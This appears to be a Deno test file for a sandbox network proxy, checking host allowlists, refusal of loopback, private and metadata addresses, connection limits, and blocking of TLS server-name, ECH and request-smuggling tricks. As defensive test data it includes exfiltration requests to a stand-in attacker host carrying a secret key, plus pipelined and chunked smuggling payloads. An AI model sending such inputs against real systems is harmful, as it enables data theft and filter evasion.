import assert from "node:assert/strict";
import { hostAllowed } from "../../src/sandbox/host_rules.ts";
import { type ProxyConnect, startProxy } from "../../src/sandbox/proxy.ts";

Deno.test("hostAllowed() admits exact names on ports 80 and 443 only", () => {
  const rules = ["api.example.com"];
  assert.equal(hostAllowed("api.example.com", 443, rules), true);
  assert.equal(hostAllowed("api.example.com", 80, rules), true);
  assert.equal(hostAllowed("api.example.com", 8080, rules), false);
  assert.equal(hostAllowed("example.com", 443, rules), false);
  assert.equal(hostAllowed("www.api.example.com", 443, rules), false);
  assert.equal(hostAllowed("api.example.com.evil.net", 443, rules), false);
});

Deno.test("hostAllowed() wildcards admit subdomains at any depth, not the apex nor look-alikes", () => {
  const rules = ["*.example.com"];
  assert.equal(hostAllowed("api.example.com", 443, rules), true);
  assert.equal(hostAllowed("a.b.example.com", 443, rules), true);
  assert.equal(hostAllowed("example.com", 443, rules), false);
  assert.equal(hostAllowed("evil-example.com", 443, rules), false);
  assert.equal(hostAllowed("api.evil-example.com", 443, rules), false);
  assert.equal(hostAllowed("example.com.evil.net", 443, rules), false);
  assert.equal(hostAllowed("api.example.com", 22, rules), false);
});

Deno.test("hostAllowed() ignores case and one trailing dot, in hosts and rules", () => {
  assert.equal(hostAllowed("API.Example.COM", 443, ["api.example.com"]), true);
  assert.equal(hostAllowed("api.example.com.", 443, ["api.example.com"]), true);
  assert.equal(hostAllowed("api.example.com", 443, ["API.EXAMPLE.COM."]), true);
  assert.equal(hostAllowed("Deep.API.example.com.", 443, ["*.Example.Com"]), true);
  assert.equal(hostAllowed("api.example.com..", 443, ["api.example.com"]), false);
});

Deno.test("hostAllowed() refuses raw IPs unless the exact address is granted", () => {
  assert.equal(hostAllowed("93.184.216.34", 443, ["*.example.com", "example.com"]), false);
  assert.equal(hostAllowed("127.0.0.1", 80, ["localhost"]), false);
  assert.equal(hostAllowed("10.0.0.5", 443, ["10.0.0.5"]), true);
  assert.equal(hostAllowed("10.0.0.6", 443, ["10.0.0.5"]), false);
  // Other spellings of the same address are the same address.
  assert.equal(hostAllowed("0x7f.1", 80, ["127.0.0.1"]), true);
  assert.equal(hostAllowed("2130706433", 80, ["127.0.0.1"]), true);
  assert.equal(hostAllowed("2130706433", 80, ["*.0.0.1"]), false);
  // IPv6, with or without brackets, in any spelling.
  assert.equal(hostAllowed("[::1]", 443, ["::1"]), true);
  assert.equal(hostAllowed("0:0:0:0:0:0:0:1", 443, ["[::1]:443"]), true);
  assert.equal(hostAllowed("::1", 443, ["*.example.com"]), false);
  assert.equal(hostAllowed("2001:db8::1", 443, ["2001:db8::2"]), false);
});

Deno.test("hostAllowed() honours explicit ports in rules", () => {
  assert.equal(hostAllowed("db.example.com", 5432, ["db.example.com:5432"]), true);
  assert.equal(hostAllowed("db.example.com", 443, ["db.example.com:5432"]), false);
  assert.equal(hostAllowed("x.example.com", 8443, ["*.example.com:8443"]), true);
  assert.equal(hostAllowed("::1", 8080, ["[::1]:8080"]), true);
  assert.equal(hostAllowed("::1", 443, ["[::1]:8080"]), false);
  assert.equal(hostAllowed("db.example.com", 5432, ["db.example.com:99999"]), false);
});

Deno.test("hostAllowed() refuses malformed hosts and never treats * as allow-all", () => {
  assert.equal(hostAllowed("anything.com", 443, ["*"]), false);
  assert.equal(hostAllowed("evil.com@api.example.com", 443, ["api.example.com"]), false);
  assert.equal(hostAllowed("api.example.com/x", 443, ["api.example.com"]), false);
  assert.equal(hostAllowed("api.example.com:443", 443, ["api.example.com"]), false);
  assert.equal(hostAllowed("", 443, ["api.example.com"]), false);
  assert.equal(hostAllowed("a b.example.com", 443, ["*.example.com"]), false);
});

/** A tiny HTTP upstream on the host's loopback. */
function startUpstream(): { port: number; close(): Promise<void> } {
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (request) =>
      new Response(
        `upstream saw ${new URL(request.url).pathname}` +
          (request.headers.has("proxy-connection") ? " with proxy headers" : ""),
      ),
  );
  return { port: server.addr.port, close: () => server.shutdown() };
}

/** Sends raw bytes to the proxy and reads until it closes (bounded by a timer). */
async function rawExchange(port: number, ...messages: string[]): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  const timer = setTimeout(() => conn.close(), 5000);
  try {
    const chunks: string[] = [];
    const buffer = new Uint8Array(16 * 1024);
    for (const message of messages) {
      await conn.write(new TextEncoder().encode(message));
      // Wait for the first answer before the next message (CONNECT, then the tunnelled request).
      const n = await conn.read(buffer);
      if (n === null) break;
      chunks.push(new TextDecoder().decode(buffer.subarray(0, n)));
    }
    while (true) {
      const n = await conn.read(buffer).catch(() => null);
      if (n === null) break;
      chunks.push(new TextDecoder().decode(buffer.subarray(0, n)));
    }
    return chunks.join("");
  } finally {
    clearTimeout(timer);
    try {
      conn.close();
    } catch {
      // closed by the timer or the proxy
    }
  }
}

Deno.test("startProxy() tunnels CONNECT and forwards absolute-URI GETs to granted hosts only", async () => {
  const upstream = startUpstream();
  const connect: ProxyConnect = (host, _port) => {
    if (host !== "api.example.test") throw new Error(`unexpected upstream ${host}`);
    return Deno.connect({ hostname: "127.0.0.1", port: upstream.port });
  };
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  try {
    const get = await rawExchange(
      port,
      "GET http://API.example.test/plain?q=1 HTTP/1.1\r\nHost: api.example.test\r\n" +
        "Proxy-Connection: keep-alive\r\n\r\n",
    );
    assert.match(get, /^HTTP\/1\.1 200/);
    assert.match(get, /upstream saw \/plain/);
    assert.doesNotMatch(get, /with proxy headers/);

    const tunnel = await rawExchange(
      port,
      "CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n",
      "GET /tunnelled HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
    );
    assert.match(tunnel, /^HTTP\/1\.1 200 Connection established/);
    assert.match(tunnel, /upstream saw \/tunnelled/);

    const refusedConnect = await rawExchange(port, "CONNECT evil.test:443 HTTP/1.1\r\n\r\n");
    assert.match(refusedConnect, /^HTTP\/1\.1 403 Forbidden/);
    assert.match(refusedConnect, /Host "evil\.test" is not granted/);

    const refusedGet = await rawExchange(port, "GET http://127.0.0.1:8080/ HTTP/1.1\r\n\r\n");
    assert.match(refusedGet, /^HTTP\/1\.1 403/);

    const wrongPort = await rawExchange(port, "CONNECT api.example.test:22 HTTP/1.1\r\n\r\n");
    assert.match(wrongPort, /^HTTP\/1\.1 403/);
    assert.match(wrongPort, /Port 22/);

    const notProxy = await rawExchange(port, "GET /relative HTTP/1.1\r\n\r\n");
    assert.match(notProxy, /^HTTP\/1\.1 400/);

    assert.deepEqual(
      proxy.log.map(({ host, port, allowed }) => ({ host, port, allowed })),
      [
        { host: "api.example.test", port: 80, allowed: true },
        { host: "api.example.test", port: 443, allowed: true },
        { host: "evil.test", port: 443, allowed: false },
        { host: "127.0.0.1", port: 8080, allowed: false },
        { host: "api.example.test", port: 22, allowed: false },
      ],
    );
  } finally {
    await proxy.close();
    await upstream.close();
  }
});

/** Sends one CONNECT and returns the proxy's first answer (the tunnel, if any, is then closed). */
async function connectAnswer(port: number, target: string): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  try {
    await conn.write(new TextEncoder().encode(`CONNECT ${target} HTTP/1.1\r\n\r\n`));
    let answer = "";
    const buffer = new Uint8Array(4096);
    while (!answer.includes("\r\n\r\n")) {
      const n = await conn.read(buffer);
      if (n === null) break;
      answer += new TextDecoder().decode(buffer.subarray(0, n));
    }
    // A refusal carries a one-line body after the head.
    if (/^HTTP\/1\.1 [45]/.test(answer) && !answer.endsWith("\n\n")) {
      const n = await conn.read(buffer);
      if (n !== null) answer += new TextDecoder().decode(buffer.subarray(0, n));
    }
    return answer;
  } finally {
    conn.close();
  }
}

/** Addresses the fake resolver gives each name (a name it does not know resolves to nothing). */
const RESOLVED: Record<string, string[]> = {
  "public.example.test": ["93.184.216.34"],
  "mixed.example.test": ["127.0.0.1", "93.184.216.34"],
  "rebind.example.test": ["127.0.0.1"],
  "localhost": ["127.0.0.1", "::1"],
  "lan.example.test": ["192.168.1.10"],
  "ten.example.test": ["10.0.0.5"],
  "metadata.example.test": ["169.254.169.254"],
  "ula.example.test": ["fd00:ec2::254"],
  "cgnat.example.test": ["100.64.0.1"],
  "mcast.example.test": ["224.0.0.1"],
  "zero.example.test": ["0.0.0.0"],
  "linklocal6.example.test": ["fe80::1"],
  "mapped.example.test": ["::ffff:127.0.0.1", "::1"],
  "compat.example.test": ["::7f00:1"],
  "nat64.example.test": ["64:ff9b::a9fe:a9fe"],
};

/** One row: under `allow` and `privateAllow`, is `target` (a CONNECT target) tunnelled? */
type AddressRow = [allow: string[], privateAllow: string[], target: string, tunnelled: boolean];

const ADDRESS_TABLE: AddressRow[] = [
  // Names admitted by a wildcard never lead to a special address.
  [["*.example.test"], [], "public.example.test:443", true],
  [["*.example.test"], [], "mixed.example.test:443", true],
  [["*.example.test"], [], "rebind.example.test:443", false],
  [["*.example.test"], [], "lan.example.test:443", false],
  [["*.example.test"], [], "ten.example.test:443", false],
  [["*.example.test"], [], "metadata.example.test:80", false],
  [["*.example.test"], [], "ula.example.test:443", false],
  [["*.example.test"], [], "cgnat.example.test:443", false],
  [["*.example.test"], [], "mcast.example.test:443", false],
  [["*.example.test"], [], "zero.example.test:443", false],
  [["*.example.test"], [], "linklocal6.example.test:443", false],
  [["*.example.test"], [], "mapped.example.test:443", false],
  [["*.example.test"], [], "compat.example.test:443", false],
  [["*.example.test"], [], "nat64.example.test:443", false],
  // Nor do exact names: the resolved address decides.
  [["rebind.example.test:8080"], [], "rebind.example.test:8080", false],
  [["localhost:8080"], [], "localhost:8080", false],
  [["metadata.example.test"], [], "metadata.example.test:80", false],
  // Nor exact addresses, in any spelling.
  [["127.0.0.1:8080"], [], "127.0.0.1:8080", false],
  [["127.0.0.1:8080"], [], "0x7f.1:8080", false],
  [["127.0.0.1:8080"], [], "2130706433:8080", false],
  [["[::1]:8080"], [], "[::1]:8080", false],
  [["[::ffff:127.0.0.1]:8080"], [], "[::ffff:127.0.0.1]:8080", false],
  [["[::ffff:127.0.0.1]:8080"], [], "[::ffff:7f00:1]:8080", false],
  [["10.0.0.5"], [], "10.0.0.5:443", false],
  [["169.254.169.254"], [], "169.254.169.254:80", false],
  [["[fd00:ec2::254]"], [], "[fd00:ec2::254]:80", false],
  [["100.64.0.1"], [], "100.64.0.1:443", false],
  [["0.0.0.0:8080"], [], "0.0.0.0:8080", false],
  [["93.184.216.34"], [], "93.184.216.34:443", true],
  // The private-network opt-in names the host or the address exactly, port included.
  [["127.0.0.1:8080"], ["127.0.0.1:8080"], "127.0.0.1:8080", true],
  [["127.0.0.1:8080"], ["127.0.0.1:8080"], "0x7f.1:8080", true],
  [["127.0.0.1:8080"], ["127.0.0.1:9090"], "127.0.0.1:8080", false],
  [["127.0.0.1:8080"], ["127.0.0.2:8080"], "127.0.0.1:8080", false],
  [["[::ffff:127.0.0.1]:8080"], ["127.0.0.1:8080"], "[::ffff:127.0.0.1]:8080", false],
  [["[::1]:8080"], ["[::1]:8080"], "[::1]:8080", true],
  [["10.0.0.5"], ["10.0.0.5"], "10.0.0.5:443", true],
  [["10.0.0.5"], ["10.0.0.5"], "10.0.0.5:80", true],
  [["localhost:8080"], ["localhost:8080"], "localhost:8080", true],
  [["rebind.example.test:8080"], ["127.0.0.1:8080"], "rebind.example.test:8080", true],
  [["*.example.test"], ["10.0.0.5"], "ten.example.test:443", true],
  [["*.example.test"], ["10.0.0.5"], "lan.example.test:443", false],
  // The opt-in is not a grant on its own, and a wildcard in it opts nothing in.
  [[], ["127.0.0.1:8080"], "127.0.0.1:8080", false],
  [["*.example.test"], ["*.example.test"], "rebind.example.test:443", false],
];

Deno.test("startProxy() refuses special addresses for every rule, unless a private rule names them", async () => {
  const asked: string[] = [];
  const resolve = (host: string) => {
    asked.push(host);
    return Promise.resolve(RESOLVED[host] ?? []);
  };
  // Upstreams are faked (no traffic leaves the machine); the resolver decides what is special.
  const upstream = startUpstream();
  const connect: ProxyConnect = () => Deno.connect({ hostname: "127.0.0.1", port: upstream.port });
  try {
    for (const [allow, privateAllow, target, tunnelled] of ADDRESS_TABLE) {
      const proxy = startProxy({ port: 0, allow, privateAllow, resolve, connect });
      const port = (proxy.address as Deno.NetAddr).port;
      try {
        const answer = await connectAnswer(port, target);
        const where = `${JSON.stringify(allow)} private ${JSON.stringify(privateAllow)} ${target}`;
        if (tunnelled) {
          assert.match(answer, /^HTTP\/1\.1 200 Connection established/, where);
        } else {
          assert.match(answer, /^HTTP\/1\.1 403 Forbidden/, where);
          assert.match(
            answer,
            /not granted|(address|not public): reaching it needs --allow-private-net/,
            where,
          );
        }
      } finally {
        await proxy.close();
      }
    }
    // Names were resolved by the proxy; addresses were not looked up.
    assert.ok(asked.includes("localhost"));
    assert.ok(!asked.some((host) => /^[\d.]+$/.test(host) || host.includes(":")));
  } finally {
    await upstream.close();
  }
});

Deno.test("startProxy() connects to the address it checked, and says which flag would admit one", async () => {
  // A real connection, no seam: the name resolves to loopback, where a listener counts.
  let hits = 0;
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const serving = (async () => {
    for await (const conn of listener) {
      hits++;
      conn.close();
    }
  })().catch(() => {});
  const target = `rebind.example.test:${listener.addr.port}`;
  const resolve = (host: string) => Promise.resolve(RESOLVED[host] ?? []);
  const refusing = startProxy({ port: 0, allow: [target], resolve });
  const admitting = startProxy({ port: 0, allow: [target], privateAllow: [target], resolve });
  try {
    const refused = await rawExchange(
      (refusing.address as Deno.NetAddr).port,
      `CONNECT ${target} HTTP/1.1\r\n\r\n`,
    );
    assert.match(refused, /^HTTP\/1\.1 403/);
    assert.doesNotMatch(refused, /127\.0\.0\.1/);
    assert.match(
      refused,
      new RegExp(
        // Which address is not said (a wildcard grant would map a domain's private names).
        `Host "rebind\\.example\\.test" resolves to an address that is not public: reaching ` +
          `it needs --allow-private-net ${target.replaceAll(".", "\\.")}`,
      ),
    );
    assert.equal(hits, 0);
    assert.deepEqual(refusing.log.map((e) => e.allowed), [false]);
    const admitted = await connectAnswer((admitting.address as Deno.NetAddr).port, target);
    assert.match(admitted, /^HTTP\/1\.1 200 Connection established/);
    assert.equal(hits, 1);
  } finally {
    await refusing.close();
    await admitting.close();
    listener.close();
    await serving;
  }
});

Deno.test("startProxy() listens on a unix socket and removes it on close()", async () => {
  const dir = await Deno.makeTempDir({ prefix: "capibara-proxy-test-" });
  const socketPath = `${dir}/proxy.sock`;
  const proxy = startProxy({ socketPath, allow: [] });
  try {
    assert.equal((await Deno.lstat(socketPath)).isSocket, true);
    const conn = await Deno.connect({ transport: "unix", path: socketPath });
    await conn.write(new TextEncoder().encode("CONNECT example.com:443 HTTP/1.1\r\n\r\n"));
    const buffer = new Uint8Array(4096);
    const n = await conn.read(buffer);
    conn.close();
    assert.match(new TextDecoder().decode(buffer.subarray(0, n ?? 0)), /^HTTP\/1\.1 403/);
  } finally {
    await proxy.close();
    await proxy.close();
  }
  await assert.rejects(() => Deno.lstat(socketPath), Deno.errors.NotFound);
  await Deno.remove(dir, { recursive: true });
});

/** Waits (bounded) until `condition` holds; false when it never did. */
async function eventually(condition: () => boolean): Promise<boolean> {
  for (let i = 0; i < 500 && !condition(); i++) await new Promise((r) => setTimeout(r, 10));
  return condition();
}

/** Reads until the peer closes: the bytes read, or the error that ended it. */
async function readToEnd(conn: Deno.Conn): Promise<string> {
  const buffer = new Uint8Array(4096);
  let text = "";
  try {
    while (true) {
      const n = await conn.read(buffer);
      if (n === null) return text;
      text += new TextDecoder().decode(buffer.subarray(0, n));
    }
  } catch (error) {
    return text + `<${(error as Error).name}>`;
  }
}

/** Reads until the proxy closes `conn`, giving up (and closing it) after 10 s. */
async function readUntilClosed(conn: Deno.Conn): Promise<{ text: string; gaveUp: boolean }> {
  let gaveUp = false;
  const guard = setTimeout(() => {
    gaveUp = true;
    conn.close();
  }, 10_000);
  const text = await readToEnd(conn);
  clearTimeout(guard);
  if (!gaveUp) conn.close();
  return { text, gaveUp };
}

Deno.test("startProxy() bounds open and total connections without reading the refused ones", async () => {
  const dir = await Deno.makeTempDir({ prefix: "capibara-proxy-limits-" });
  const socketPath = `${dir}/proxy.sock`;
  const maxConnections = 16;
  const maxTotalConnections = 100;
  const proxy = startProxy({ socketPath, allow: [], maxConnections, maxTotalConnections });
  const dial = () => Deno.connect({ transport: "unix", path: socketPath });
  const held: Deno.Conn[] = [];
  try {
    // An attacker holds the bound open with idle connections…
    for (let i = 0; i < maxConnections; i++) held.push(await dial());
    assert.ok(await eventually(() => proxy.stats().open === maxConnections));
    // …then opens 3,000 more, 200 at a time: each is closed unread, and nothing piles up.
    for (let batch = 0; batch < 15; batch++) {
      const conns = await Promise.all(Array.from({ length: 200 }, dial));
      const answers = await Promise.all(conns.map(async (conn) => {
        await conn.write(new TextEncoder().encode("CONNECT evil.test:443 HTTP/1.1\r\n\r\n"))
          .catch(() => 0);
        const answer = await readToEnd(conn);
        conn.close();
        return answer;
      }));
      assert.deepEqual(answers.filter((a) => a.startsWith("HTTP")), [], `batch ${batch}`);
    }
    const stats = proxy.stats();
    assert.equal(stats.refused, 3000);
    assert.equal(stats.peakOpen, maxConnections);
    assert.equal(stats.accepted, maxConnections);
    assert.equal(proxy.log.length, 0);

    // Freed slots serve again, until the total bound is reached.
    for (const conn of held.splice(0)) conn.close();
    assert.ok(await eventually(() => proxy.stats().open === 0));
    const served: string[] = [];
    for (let i = 0; i < maxTotalConnections; i++) {
      const conn = await dial();
      await conn.write(new TextEncoder().encode("CONNECT evil.test:443 HTTP/1.1\r\n\r\n"));
      served.push(await readToEnd(conn));
      conn.close();
    }
    const answered = served.filter((a) => a.startsWith("HTTP/1.1 403"));
    assert.equal(answered.length, maxTotalConnections - maxConnections);
    assert.equal(proxy.stats().accepted, maxTotalConnections);
    assert.equal(proxy.log.length, maxTotalConnections - maxConnections);
    assert.equal(proxy.stats().peakOpen, maxConnections);
  } finally {
    for (const conn of held) conn.close();
    await proxy.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("startProxy() closes a connection idle before its request head, and an idle tunnel", async () => {
  const upstream = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const upstreamConns: Deno.Conn[] = [];
  const accepting = (async () => {
    // A silent upstream: it accepts and never sends a byte.
    for await (const conn of upstream) upstreamConns.push(conn);
  })().catch(() => {});
  const connect: ProxyConnect = () =>
    Deno.connect({ hostname: "127.0.0.1", port: upstream.addr.port });
  const proxy = startProxy({
    port: 0,
    allow: ["api.example.test"],
    connect,
    timeoutMs: 300,
    idleTimeoutMs: 300,
  });
  const port = (proxy.address as Deno.NetAddr).port;
  try {
    const idle = await Deno.connect({ hostname: "127.0.0.1", port });
    const idleEnd = await readUntilClosed(idle);
    assert.equal(idleEnd.gaveUp, false, "the proxy kept an idle connection open");
    assert.equal(idleEnd.text, "");

    const tunnel = await Deno.connect({ hostname: "127.0.0.1", port });
    await tunnel.write(new TextEncoder().encode("CONNECT api.example.test:443 HTTP/1.1\r\n\r\n"));
    const tunnelEnd = await readUntilClosed(tunnel);
    assert.equal(tunnelEnd.gaveUp, false, "the proxy kept an idle tunnel open");
    assert.match(tunnelEnd.text, /^HTTP\/1\.1 200 Connection established\r\n\r\n$/);
    assert.ok(await eventually(() => proxy.stats().open === 0));
    assert.equal(proxy.stats().accepted, 2);
  } finally {
    await proxy.close();
    upstream.close();
    for (const conn of upstreamConns) conn.close();
    await accepting;
  }
});

/** A TLS ClientHello (one record) naming `serverName` (none: null), with `extra` extensions. */
function clientHello(serverName: string | null, extra: [number, number[]][] = []): Uint8Array {
  const u16 = (n: number) => [(n >> 8) & 255, n & 255];
  const extensions: number[] = [];
  const extension = (type: number, data: number[]) =>
    extensions.push(...u16(type), ...u16(data.length), ...data);
  if (serverName !== null) {
    const name = [...new TextEncoder().encode(serverName)];
    const entry = [0, ...u16(name.length), ...name];
    extension(0, [...u16(entry.length), ...entry]);
  }
  for (const [type, data] of extra) extension(type, data);
  const body = [
    3,
    3,
    ...new Array(32).fill(7),
    0, // session id
    ...u16(2),
    0x13,
    0x01, // one cipher suite
    1,
    0, // compression: null
    ...u16(extensions.length),
    ...extensions,
  ];
  const handshake = [1, 0, ...u16(body.length), ...body];
  return Uint8Array.from([0x16, 3, 1, ...u16(handshake.length), ...handshake]);
}

/** Opens a tunnel, sends `bytes` through it, and returns the proxy's answers until it closes. */
async function throughTunnel(port: number, target: string, bytes: Uint8Array): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  const timer = setTimeout(() => conn.close(), 3000);
  try {
    await conn.write(new TextEncoder().encode(`CONNECT ${target} HTTP/1.1\r\n\r\n`));
    const buffer = new Uint8Array(16 * 1024);
    const first = await conn.read(buffer);
    let answer = first === null ? "" : new TextDecoder().decode(buffer.subarray(0, first));
    await conn.write(bytes);
    while (true) {
      const n = await conn.read(buffer).catch(() => null);
      if (n === null) break;
      answer += new TextDecoder().decode(buffer.subarray(0, n));
    }
    return answer;
  } finally {
    clearTimeout(timer);
    try {
      conn.close();
    } catch {
      // closed by the timer or the proxy
    }
  }
}

/**
 * An upstream that keeps the first bytes of each connection it accepts, then closes it: as bytes,
 * and as text (one character per byte, after `prefix`) in `seen`. `connect` leads a proxy to it.
 */
function recordingUpstream(seen: string[] = [], prefix = "") {
  const bytes: Uint8Array[] = [];
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  const accepting = (async () => {
    for await (const conn of listener) {
      const buffer = new Uint8Array(65536);
      const n = await conn.read(buffer).catch(() => null);
      if (n) {
        bytes.push(buffer.slice(0, n));
        seen.push(prefix + String.fromCharCode(...buffer.subarray(0, n)));
      }
      conn.close();
    }
  })();
  const connect: ProxyConnect = () => Deno.connect({ hostname: "127.0.0.1", port });
  return {
    bytes,
    seen,
    port,
    connect,
    async close() {
      listener.close();
      await accepting;
    },
  };
}

Deno.test("startProxy() relays nothing that names another site than the one granted: TLS server name, ECH, a tunnelled Host, a pipelined request", async () => {
  // A front end shared by many sites, routing by TLS server name (port 443) or Host (port 80).
  const seen: string[] = [];
  const tls = recordingUpstream(seen, "tls ");
  const http = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    seen.push(`http ${request.headers.get("host")} ${new URL(request.url).pathname}`);
    return new Response("served\n");
  });
  const connect: ProxyConnect = (host, port) => {
    assert.equal(host, "api.example.test");
    return Deno.connect({
      hostname: "127.0.0.1",
      port: port === 443 ? tls.port : http.addr.port,
    });
  };
  const proxy = startProxy({ port: 0, allow: ["api.example.test"], connect });
  const port = (proxy.address as Deno.NetAddr).port;
  const saw = (what: string) => seen.some((line) => line.includes(what));
  try {
    // TLS naming another site at the same address: nothing goes up.
    await throughTunnel(port, "api.example.test:443", clientHello("exfil.attacker.test"));
    assert.ok(!saw("exfil.attacker.test"), `relayed: ${seen}`);
    assert.match(proxy.log.at(-1)?.reason ?? "", /names "exfil\.attacker\.test"/);
    assert.equal(proxy.log.at(-1)?.allowed, false);
    // An encrypted ClientHello hides the name it asks for: refused even with the granted outer one.
    await throughTunnel(
      port,
      "api.example.test:443",
      clientHello("api.example.test", [[0xfe0d, [0, 1, 2]]]),
    );
    assert.equal(seen.length, 0, `relayed: ${seen}`);
    assert.match(proxy.log.at(-1)?.reason ?? "", /ECH/);
    // The drafts of an encrypted name (ESNI, ECH's earlier numbers) hide it too.
    for (const type of [0xffce, 0xfe0a]) {
      await throughTunnel(
        port,
        "api.example.test:443",
        clientHello("api.example.test", [[type, [0]]]),
      );
    }
    assert.equal(seen.length, 0, `relayed: ${seen}`);
    // No name at all, to a name: refused.
    await throughTunnel(port, "api.example.test:443", clientHello(null));
    assert.equal(seen.length, 0, `relayed: ${seen}`);
    // The granted name (any case, a trailing dot) goes up.
    await throughTunnel(port, "api.example.test:443", clientHello("API.example.test."));
    await waitFor(() => saw("tls "));
    assert.ok(saw("API.example.test"), `not relayed: ${seen}`);

    // A plain request in a tunnel names its site by Host: only the granted one.
    const foreign = await throughTunnel(
      port,
      "api.example.test:80",
      new TextEncoder().encode(
        "GET /exfil?key=SECRET HTTP/1.1\r\nHost: exfil.attacker.test\r\nConnection: close\r\n\r\n",
      ),
    );
    assert.match(foreign, /403 Forbidden/);
    assert.ok(!saw("/exfil"), `relayed: ${seen}`);
    // One request per tunnel: a second one after it never goes up.
    const tunnelled = await throughTunnel(
      port,
      "api.example.test:80",
      new TextEncoder().encode(
        "GET /ok HTTP/1.1\r\nHost: api.example.test\r\n\r\n" +
          "GET /second HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
      ),
    );
    assert.match(tunnelled, /served/);
    assert.ok(saw("http api.example.test /ok"), `not relayed: ${seen}`);

    // An absolute-URI request: its body as long as it says, nothing pipelined after it.
    const piped = await rawExchange(
      port,
      "POST http://api.example.test/post HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody" +
        "GET /pipelined HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
    );
    assert.match(piped, /served/);
    const chunked = await rawExchange(
      port,
      "POST http://api.example.test/post HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" +
        "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n",
    );
    assert.match(chunked, /^HTTP\/1\.1 400/);
    await new Promise((r) => setTimeout(r, 100));
    assert.ok(!saw("exfil.attacker.test"), `relayed: ${seen}`);
    assert.ok(!saw("/second") && !saw("/pipelined") && !saw("/smuggled"), `relayed: ${seen}`);
  } finally {
    await proxy.close();
    await http.shutdown();
    await tls.close();
  }
});

async function waitFor(done: () => boolean): Promise<void> {
  for (let i = 0; i < 50 && !done(); i++) await new Promise((r) => setTimeout(r, 20));
}

/** A TLS 1.3 ClientHello naming `serverName`, with an x25519 key share or none (a retry asked). */
function hello13(serverName: string, share: boolean): Uint8Array {
  const u16 = (n: number) => [(n >> 8) & 255, n & 255];
  const extensions: number[] = [];
  const add = (type: number, data: number[]) =>
    extensions.push(...u16(type), ...u16(data.length), ...data);
  const name = [...new TextEncoder().encode(serverName)];
  add(0, [...u16(name.length + 3), 0, ...u16(name.length), ...name]);
  add(0x2b, [2, 3, 4]); // supported_versions: TLS 1.3
  add(0x0a, [0, 2, 0, 0x1d]); // supported_groups: x25519
  add(0x0d, [0, 4, 8, 4, 4, 3]); // signature_algorithms
  add(0x33, share ? [0, 36, 0, 0x1d, 0, 32, ...new Array(32).fill(9)] : [0, 0]); // key_share
  const body = [
    3,
    3,
    ...new Array(32).fill(7),
    0,
    ...u16(2),
    0x13,
    0x01,
    1,
    0,
    ...u16(extensions.length),
    ...extensions,
  ];
  const handshake = [1, 0, ...u16(body.length), ...body];
  return Uint8Array.from([0x16, 3, 1, ...u16(handshake.length), ...handshake]);
}

/** An OpenSSL front end (Python's ssl) that logs each server name it is asked for, and echoes. */
const FRONT_END = `import socket, ssl, sys
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
ctx.sni_callback = lambda s, name, c: print("sni:", name, flush=True)
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
print(srv.getsockname()[1], flush=True)
while True:
    conn, _ = srv.accept()
    conn.settimeout(5)
    try:
        tls = ctx.wrap_socket(conn, server_side=True)
        tls.sendall(b"echo: " + tls.recv(100))
        tls.close()
    except Exception as e:
        print("ended:", type(e).__name__, flush=True)
        conn.close()
`;

Deno.test("startProxy() relays a real TLS handshake to the granted name, and a second ClientHello after a HelloRetryRequest only when it names it too", async (t) => {
  const openssl = await new Deno.Command("openssl", { args: ["version"] }).output().catch(() =>
    undefined
  );
  if (!openssl?.success) {
    console.warn("SKIPPED: openssl is not installed (a certificate for the front end)");
    return;
  }
  const dir = await Deno.makeTempDir({ prefix: "capibara_tls_" });
  const cert = `${dir}/cert.pem`;
  const key = `${dir}/key.pem`;
  const made = await new Deno.Command("openssl", {
    args: ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
      .concat(["-keyout", key, "-out", cert, "-days", "1", "-subj", "/CN=api.example.test"])
      .concat(["-addext", "subjectAltName=DNS:api.example.test"]),
    stderr: "null",
  }).output();
  assert.ok(made.success, "openssl made no certificate");
  const server = new Deno.Command("python3", {
    args: ["-c", FRONT_END, cert, key],
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const lines = server.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let log = "";
  while (!log.includes("\n")) log += (await lines.read()).value ?? "";
  const serverPort = Number(log.trim());
  log = "";
  const reading = (async () => {
    while (true) {
      const { value, done } = await lines.read();
      if (done) break;
      log += value;
    }
  })();
  const proxy = startProxy({
    port: 0,
    allow: ["api.example.test"],
    connect: (host) => {
      assert.equal(host, "api.example.test");
      return Deno.connect({ hostname: "127.0.0.1", port: serverPort });
    },
  });
  const port = (proxy.address as Deno.NetAddr).port;
  /** A tunnel to the front end, its `200` read. */
  const tunnel = async () => {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    await conn.write(new TextEncoder().encode("CONNECT api.example.test:443 HTTP/1.1\r\n\r\n"));
    const answer = new Uint8Array(200);
    const n = await conn.read(answer);
    assert.match(new TextDecoder().decode(answer.subarray(0, n ?? 0)), / 200 /);
    return conn;
  };
  /** The server's first record after `hello`: its record and handshake types. */
  const answerTo = async (conn: Deno.Conn, hello: Uint8Array) => {
    await conn.write(hello);
    const buffer = new Uint8Array(65536);
    const n = await conn.read(buffer).catch(() => null);
